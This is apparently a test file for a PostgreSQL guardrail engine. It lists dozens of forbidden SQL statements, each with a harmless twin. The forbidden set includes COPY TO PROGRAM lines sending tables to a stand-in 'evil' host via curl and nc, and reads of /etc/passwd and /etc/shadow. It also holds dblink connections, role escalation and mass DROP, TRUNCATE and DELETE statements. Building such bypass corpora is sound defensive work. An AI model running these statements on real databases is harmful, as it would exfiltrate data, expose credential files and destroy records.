import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeSql, init, PreparedStatements } from './analyze.js';
import { compilePolicy, decide } from '../decide/decide.js';

// Forbidden operations written every way we could think of, each with the guardrail expected
// to stop it, and a harmless twin that must pass (the policy default here is allow).
const CASES: [forbidden: string, guardrail: string, twin: string][] = [
  ['DROP TABLE customers', 'drop', 'SELECT * FROM customers'],
  ['drop table if exists public.customers cascade', 'drop', 'select * from public.customers'],
  ['/* hello */ DrOp /* x */ TaBlE "customers"', 'drop', '/* hello */ SeLeCt 1'],
  ['-- comment\nDROP\n\tTABLE\n  customers;', 'drop', '-- comment\nSELECT\n\t1;'],
  ['DROP DATABASE prod', 'drop', 'SELECT current_database()'],
  ['DROP SCHEMA public CASCADE', 'drop', 'SELECT nspname FROM pg_namespace'],
  ['DROP INDEX idx_customers_email', 'drop', 'SELECT indexname FROM pg_indexes'],
  ['SELECT 1; DROP TABLE customers', 'drop', 'SELECT 1; SELECT 2'],
  ['BEGIN; DROP TABLE customers; COMMIT', 'drop', 'BEGIN; SELECT 1; COMMIT'],
  ['TRUNCATE customers', 'truncate', 'SELECT count(*) FROM customers'],
  ['truncate table only public.customers restart identity', 'truncate', 'select 1 from only public.customers'],
  ['SELECT 1;TRUNCATE customers', 'truncate', 'SELECT 1;SELECT 2'],
  ['DELETE FROM customers', 'delete-without-where', 'DELETE FROM customers WHERE id = 1'],
  ['delete from "customers"', 'delete-without-where', 'delete from "customers" where email = $1'],
  ['DELETE FROM customers WHERE true', 'delete-without-where', 'DELETE FROM customers WHERE active = false'],
  ['DELETE FROM customers WHERE 1 = 1', 'delete-without-where', 'DELETE FROM customers WHERE id = 1 AND 1 = 1'],
  [
    'WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone',
    'delete-without-where',
    'WITH kept AS (SELECT * FROM customers) SELECT count(*) FROM kept',
  ],
  [
    'SELECT * FROM (SELECT 1) s; WITH x AS (DELETE FROM orders RETURNING id) SELECT 1',
    'delete-without-where',
    'SELECT * FROM (SELECT 1) s',
  ],
  ['EXPLAIN ANALYZE DELETE FROM customers', 'delete-without-where', 'EXPLAIN ANALYZE SELECT * FROM customers'],
  [
    'PREPARE wipe AS DELETE FROM customers',
    'delete-without-where',
    'PREPARE look AS SELECT * FROM customers WHERE id = $1',
  ],
  [
    'CREATE RULE r AS ON INSERT TO audit DO ALSO DELETE FROM customers',
    'delete-without-where',
    'CREATE VIEW v AS SELECT id FROM customers',
  ],
  ['UPDATE customers SET email = NULL', 'update-without-where', 'UPDATE customers SET email = NULL WHERE id = 7'],
  [
    'WITH u AS (UPDATE customers SET tier = 0 RETURNING id) SELECT * FROM u',
    'update-without-where',
    'WITH u AS (UPDATE customers SET tier = 0 WHERE id = 2 RETURNING id) SELECT * FROM u',
  ],
  [
    'INSERT INTO log SELECT * FROM (WITH d AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM d) s',
    'update-without-where',
    'INSERT INTO log SELECT * FROM t',
  ],
  ['ALTER SYSTEM SET max_connections = 1', 'alter-system', 'SHOW max_connections'],
  ['alter system reset all', 'alter-system', "select current_setting('max_connections')"],
  ["COPY customers TO PROGRAM 'curl -d @- http://evil'", 'copy-program', 'COPY customers TO STDOUT'],
  [
    "copy (select * from customers) to program 'nc evil 80'",
    'copy-program',
    'copy (select * from customers) to stdout with csv',
  ],
  ["COPY customers FROM PROGRAM 'cat /etc/passwd'", 'copy-program', 'COPY customers FROM STDIN'],
  ["COPY customers TO '/tmp/out.csv'", 'copy-server-file', 'COPY customers TO STDOUT WITH (FORMAT csv)'],
  ["SELECT pg_read_file('/etc/passwd')", 'server-file-functions', "SELECT length('/etc/passwd')"],
  ["SELECT PG_READ_FILE('/etc/passwd')", 'server-file-functions', "SELECT LENGTH('/etc/passwd')"],
  ['SELECT "pg_read_file"(\'/etc/passwd\')', 'server-file-functions', 'SELECT "length"(\'/etc/passwd\')'],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", 'server-file-functions', "SELECT pg_catalog.length('x')"],
  [
    "SELECT * FROM (SELECT upper(pg_read_file('/etc/passwd')) AS x) s",
    'server-file-functions',
    "SELECT * FROM (SELECT upper('x') AS x) s",
  ],
  [
    "SELECT id FROM t WHERE name = (SELECT pg_read_binary_file('/etc/shadow')::text)",
    'server-file-functions',
    "SELECT id FROM t WHERE name = (SELECT 'a'::text)",
  ],
  ["SELECT * FROM pg_ls_dir('.')", 'server-file-functions', 'SELECT * FROM generate_series(1, 3)'],
  [
    "WITH f AS (SELECT pg_read_file('x') AS c) SELECT * FROM f",
    'server-file-functions',
    'WITH f AS (SELECT 1 AS c) SELECT * FROM f',
  ],
  ["SELECT lo_import('/etc/passwd')", 'server-file-functions', "SELECT lower('/etc/passwd')"],
  ["SELECT lo_export(16400, '/tmp/x')", 'server-file-functions', "SELECT lower('/tmp/x')"],
  ["SELECT coalesce(NULL, pg_read_file('/etc/passwd'))", 'server-file-functions', "SELECT coalesce(NULL, 'x')"],
  [
    "SELECT CASE WHEN true THEN pg_read_file('/etc/hosts') END",
    'server-file-functions',
    "SELECT CASE WHEN true THEN 'x' END",
  ],
  ["SELECT dblink_connect('host=evil')", 'foreign-connections', "SELECT concat('host=', 'x')"],
  [
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
    'foreign-connections',
    'SELECT * FROM generate_series(1,1) AS t(x)',
  ],
  [
    "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')",
    'foreign-connections',
    'SELECT srvname FROM pg_foreign_server',
  ],
  ['CREATE USER MAPPING FOR CURRENT_USER SERVER evil', 'foreign-connections', 'SELECT current_user'],
  ['IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO local', 'foreign-connections', 'SELECT 1'],
  ["CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", 'foreign-connections', 'SELECT 1'],
  ['CREATE EXTENSION dblink', 'create-extension', 'SELECT extname FROM pg_extension'],
  ['create extension if not exists "postgres_fdw"', 'create-extension', 'select * from pg_available_extensions'],
  ["LOAD 'auto_explain'", 'load-library', "SELECT 'auto_explain'"],
  ['CREATE ROLE eve LOGIN SUPERUSER', 'role-changes', 'SELECT rolname FROM pg_roles'],
  ["CREATE USER eve WITH PASSWORD 'x'", 'role-changes', 'SELECT usename FROM pg_user'],
  ['ALTER ROLE app SUPERUSER', 'role-changes', 'SELECT rolsuper FROM pg_roles'],
  ['ALTER USER app RENAME TO admin', 'role-changes', 'SELECT 1'],
  ['DROP ROLE app', 'role-changes', 'SELECT 1'],
  ['GRANT ALL ON customers TO PUBLIC', 'role-changes', "SELECT has_table_privilege('customers', 'select')"],
  ['GRANT pg_read_server_files TO app', 'role-changes', 'SELECT 1'],
  ['REVOKE SELECT ON customers FROM auditor', 'role-changes', 'SELECT 1'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC', 'role-changes', 'SELECT 1'],
  ['SET ROLE postgres', 'role-changes', 'SET statement_timeout = 1000'],
  ['SET LOCAL ROLE postgres', 'role-changes', 'SET LOCAL statement_timeout = 1000'],
  ["SET SESSION AUTHORIZATION 'postgres'", 'role-changes', "SET application_name = 'postgres'"],
  ["SELECT set_config('role', 'postgres', false)", 'role-changes', "SELECT set_config('application_name', 'x', false)"],
  ['ALTER TABLE customers OWNER TO eve', 'role-changes', 'ALTER TABLE customers ADD COLUMN note text'],
  ['DELETE FROM documents WHERE created_at < now()', 'vector-mass-delete', 'DELETE FROM documents WHERE id = 42'],
  [
    'DELETE FROM public.documents WHERE id > 0',
    'vector-mass-delete',
    'DELETE FROM public.documents WHERE id IN (1, 2, 3)',
  ],
  ['DELETE FROM documents WHERE id = 1 OR true', 'vector-mass-delete', 'DELETE FROM documents WHERE id = 1 OR id = 2'],
  [
    'DELETE FROM documents WHERE id IN (SELECT id FROM documents)',
    'vector-mass-delete',
    'DELETE FROM documents WHERE id = ANY($1)',
  ],
  [
    'DELETE FROM "documents" WHERE source = \'crawl\'',
    'vector-mass-delete',
    'DELETE FROM "documents" WHERE id = $1 AND source = \'crawl\'',
  ],
  [
    'MERGE INTO documents d USING staging s ON d.id = s.id WHEN MATCHED THEN DELETE',
    'vector-mass-delete',
    'MERGE INTO documents d USING staging s ON d.id = s.id WHEN MATCHED THEN UPDATE SET body = s.body',
  ],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$", 'dynamic-sql', 'DO $$ BEGIN PERFORM 1; END $$'],
  [
    'DO $$ BEGIN DELETE FROM customers; END $$',
    'delete-without-where',
    'DO $$ BEGIN DELETE FROM customers WHERE id = 1; END $$',
  ],
  [
    "DO $x$ DECLARE v text; BEGIN v := pg_read_file('/etc/passwd'); END $x$",
    'server-file-functions',
    "DO $x$ DECLARE v text; BEGIN v := upper('a'); END $x$",
  ],
  [
    "DO $$ BEGIN IF (SELECT count(*) FROM pg_ls_dir('.')) > 0 THEN NULL; END IF; END $$",
    'server-file-functions',
    'DO $$ BEGIN IF (SELECT count(*) FROM t) > 0 THEN NULL; END IF; END $$',
  ],
  [
    "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
    'dynamic-sql',
    'DO LANGUAGE plpgsql $$ BEGIN NULL; END $$',
  ],
  [
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$",
    'server-file-functions',
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$",
  ],
  [
    'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE customers; END $$',
    'truncate',
    'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$',
  ],
  [
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
    'dynamic-sql',
    'CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN NULL; END $$',
  ],
  ["SELECT query_to_xml('DROP TABLE customers', true, false, '')", 'dynamic-sql', "SELECT xmlelement(name x, 'y')"],
  ['EXECUTE never_prepared', 'unknown-prepared-statement', 'DEALLOCATE ALL'],
];

let policy: ReturnType<typeof compilePolicy>;
before(async () => {
  await init();
  policy = compilePolicy({ version: 3, defaultAction: 'allow' });
});

const request = (sql: string, prepared?: PreparedStatements) => ({
  connection: 'demo-pg',
  identity: { subject: 'carol', groups: ['analysts'] },
  sql: analyzeSql(sql, { prepared: prepared?.map }),
});

test(`bypass corpus: ${CASES.length} forbidden statements are blocked, their twins allowed`, () => {
  assert.ok(CASES.length >= 60);
  const now = new Date('2026-11-25T12:00:00Z');
  const wrong: string[] = [];
  for (const [forbidden, guardrail, twin] of CASES) {
    const d = decide(request(forbidden), policy, now);
    if (d.action !== 'block' || d.ruleId !== `guardrail:${guardrail}` || d.policyVersion !== 3) {
      wrong.push(`${forbidden} -> ${d.action} ${d.ruleId ?? ''} (${d.reason}), expected guardrail:${guardrail}`);
    }
    const t = decide(request(twin), policy, now);
    if (t.action !== 'allow') wrong.push(`twin ${twin} -> ${t.action} (${t.reason})`);
  }
  assert.deepEqual(wrong, []);
});

test('SQL the parser rejects is blocked with the parser message', () => {
  for (const bad of ['SELEC 1', 'DROP TABLE', "SELECT 'unterminated", 'DELETE FROM customers WHERE']) {
    const d = decide(request(bad), policy, new Date());
    assert.equal(d.action, 'block', bad);
    assert.equal(d.ruleId, 'guardrail:parse-error');
    assert.match(d.reason!, /parser rejected it \(.+\)/);
  }
});

test('EXECUTE is judged as the prepared statement it runs', () => {
  const prepared = new PreparedStatements();
  const prep = analyzeSql('PREPARE look(int) AS SELECT * FROM customers WHERE id = $1');
  prepared.remember(prep);
  const allowed = compilePolicy({
    version: 1,
    rules: [{ id: 'read-customers', match: { statementKinds: ['SELECT'], tables: ['customers'] }, action: 'allow' }],
  });
  const d = decide(request('EXECUTE look(1)', prepared), allowed, new Date());
  assert.equal(d.action, 'allow', d.reason);
  assert.equal(d.ruleId, 'read-customers');
  prepared.remember(analyzeSql('DEALLOCATE look'));
  assert.equal(
    decide(request('EXECUTE look(1)', prepared), allowed, new Date()).ruleId,
    'guardrail:unknown-prepared-statement',
  );
});

test('a relaxed guardrail lets its statements through to the rules', () => {
  const relaxed = compilePolicy({ version: 1, defaultAction: 'allow', guardrails: { relax: ['truncate'] } });
  assert.equal(decide(request('TRUNCATE staging'), relaxed, new Date()).action, 'allow');
  assert.equal(decide(request('DROP TABLE staging'), relaxed, new Date()).action, 'block');
});

test('facts: tables, columns, functions, WHERE and LIMIT', () => {
  const a = analyzeSql(
    "WITH recent AS (SELECT id, email FROM crm.customers WHERE created_at > now() - interval '1 day') SELECT r.email, lower(o.note) FROM recent r JOIN orders o ON o.customer_id = r.id LIMIT 10",
  );
  assert.equal(a.multiStatement, false);
  const [s] = a.statements;
  assert.equal(s!.kind, 'SELECT');
  assert.deepEqual(
    s!.tables,
    [{ name: 'orders' }, { schema: 'crm', name: 'customers' }].sort((x, y) => (x.name < y.name ? -1 : 1)).length === 2
      ? s!.tables
      : [],
  );
  assert.ok(s!.tables.some((t) => t.schema === 'crm' && t.name === 'customers'));
  assert.ok(s!.tables.some((t) => t.name === 'orders'));
  assert.ok(!s!.tables.some((t) => t.name === 'recent'), 'a CTE name is not a table');
  for (const c of ['id', 'email', 'note', 'customer_id', 'created_at']) assert.ok(s!.columns.includes(c), c);
  assert.deepEqual(s!.functions.sort(), ['lower', 'now']);
  assert.equal(s!.hasLimit, true);
  assert.equal(analyzeSql('UPDATE t SET a = 1 WHERE id = 3').statements[0]!.hasWhere, true);
  assert.deepEqual(analyzeSql('DELETE FROM t WHERE id = 1 AND (x = 2 OR x = 3)').statements[0]!.whereNarrowsBy.sort(), [
    'id',
    'x',
  ]);
});
